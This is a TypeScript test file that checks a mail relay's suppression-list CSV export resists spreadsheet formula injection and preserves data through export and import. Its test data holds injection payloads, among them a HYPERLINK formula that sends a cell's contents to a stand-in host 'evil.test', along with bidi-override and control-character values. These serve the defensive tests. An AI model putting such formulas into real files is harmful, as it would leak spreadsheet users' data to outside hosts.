/** A file of suppressions holds what strangers wrote: no spreadsheet computes with it, and it is read back as it was. */
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { csvLine, CsvReader } from '../../src/admin/suppression-files/csv.ts';
import { CliStage } from '../cli/support/cli-stage.ts';

/** What spreadsheets take for the beginning of a formula, also behind white space and in their full-width forms. */
const FORMULA = /^\s*[=+\-@\t\r＝＋－＠]/;

function read(text: string): readonly string[] | undefined {
  const reader = new CsvReader();
  reader.push({ number: 1, text: 'a,b', cut: false });
  const records = [...reader.push({ number: 2, text, cut: false }), ...reader.end()];
  const [record] = records;
  return records.length === 1 && record !== undefined && 'fields' in record ? record.fields : undefined;
}

describe('a cell', () => {
  test.each([
    ['=HYPERLINK("http://evil.test/?"&A1,"open")', `"'=HYPERLINK(""http://evil.test/?""&A1,""open"")"`],
    ['=1+2@evil.test', `'=1+2@evil.test`],
    ['+1-2@evil.test', `'+1-2@evil.test`],
    ['-2+3', `'-2+3`],
    ['@SUM(1)', `'@SUM(1)`],
    ['＝1＋2', `'＝1＋2`],
    ['\t=1', String.raw`\u0009=1`],
    ['\r=1', String.raw`\u000d=1`],
    [' =1', `' =1`],
    ["'=1", `''=1`],
    ["''=1", `'''=1`],
    ["o'neill@example.org", "o'neill@example.org"],
    ["'quoted'@example.org", "'quoted'@example.org"],
    ['smtp;=1', String.raw`smtp\u003b=1`],
    ['smtp; "=1"', String.raw`"smtp\u003b ""=1"""`],
    ['smtp; 550 no', '"smtp; 550 no"'],
    ['a\u009b31m\u202eb', String.raw`a\u009b31m\u202eb`],
    [String.raw`has \u003b already`, String.raw`has \u005cu003b already`],
    ['one\r\ntwo', String.raw`one\u000d\u000atwo`],
    [' kept ', '" kept "'],
  ])('%j is written as %s and read back', (text, cell) => {
    const line = csvLine([text, 'x']);
    expect(line).toBe(`${cell},x\r\n`);
    expect(read(line.trimEnd())).toEqual([text, 'x']);
  });

  test('is no formula whatever stands in it, in files with commas or semicolons, and is read back', () => {
    const part = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        "'",
        '"',
        '""',
        ';',
        ',',
        ' ',
        '\t',
        '\r\n',
        '＝',
        '\\u003b',
        '\u001b',
        '\u202e',
      ),
    );
    const text = fc.array(part).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(text, { minLength: 2, maxLength: 4 }), (fields) => {
        const line = csvLine(fields).slice(0, -2);
        expect(line).not.toMatch(/[\p{Cc}\u202e]/u);
        expect(read(line)).toEqual(fields);
        // As a spreadsheet cuts it up: on quotes at the beginning of a cell only.
        for (const separator of [',', ';'])
          for (const cell of spreadsheetCells(line, separator)) expect(cell).not.toMatch(FORMULA);
      }),
      { numRuns: 3_000 },
    );
  });
});

function spreadsheetCells(line: string, separator: string): string[] {
  const cells: string[] = [];
  for (let rest: string | undefined = line; rest !== undefined;) {
    const quoted: RegExpExecArray | null = /^"((?:[^"]|"")*)"?/.exec(rest);
    const head: string = quoted?.[0] ?? '';
    const end: number = rest.indexOf(separator, head.length);
    const tail = rest.slice(head.length, end < 0 ? undefined : end);
    cells.push((quoted?.[1] ?? '').replaceAll('""', '"') + tail);
    rest = end < 0 ? undefined : rest.slice(end + 1);
  }
  return cells;
}

describe('files', () => {
  let stage: CliStage;
  let other: CliStage;
  beforeEach(() => {
    stage = new CliStage();
    other = new CliStage();
    stage.openStore();
    other.openStore();
  });
  afterEach(async () => {
    await stage.dispose();
    await other.dispose();
  });

  const EVIDENCE = ['=HYPERLINK("http://evil.test/")', "'=1", ' x\u009b\r\n\u202e=2 ', 'plain', '-'];
  const ADDRESSES = [
    '=1+2@evil.test',
    "'=1+2@evil.test",
    "o'neill@evil.test",
    '-x@evil.test',
    '"a\\"b;=c"@evil.test',
  ];

  test.each(['csv', 'json'])('of one relay come to another as they were, as %s', async (format) => {
    for (const [index, address] of ADDRESSES.entries())
      await stage.store.suppressions.addSuppression(
        {
          accountId: stage.defaultAccountId,
          scope: '',
          address,
          reason: 'unknown-address',
          evidence: EVIDENCE[index] ?? '',
          createdAtMs: stage.clock.now(),
          expiresAtMs: undefined,
          createdBy: 'delivery',
        },
        'test',
      );
    const file = await stage.text('suppression', 'export', '--format', format);
    expect(file).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202e]/);
    other.files = { suppressed: file };
    await other.text('suppression', 'import', 'suppressed');
    const facts = async (of: CliStage) => await of.jsonLines('suppression', 'list');
    expect(await facts(other)).toEqual(await facts(stage));
    expect(await facts(other)).toHaveLength(ADDRESSES.length);
  });

  test('of other programs are read as they are', async () => {
    stage.files = {
      'other.csv': [
        'email, note',
        '=1@b.test,"=said so, twice"',
        `"+x@b.test" , " kept " `,
        `'neutral'@b.test,C:\\users\\new`,
        '',
      ].join('\n'),
    };
    await stage.text('suppression', 'import', 'other.csv');
    expect(await stage.jsonLines('suppression', 'list')).toMatchObject([
      { address: "'neutral'@b.test", evidence: String.raw`C:\users\new` },
      { address: '+x@b.test', evidence: ' kept ' },
      { address: '=1@b.test', evidence: '=said so, twice' },
    ]);
  });
});
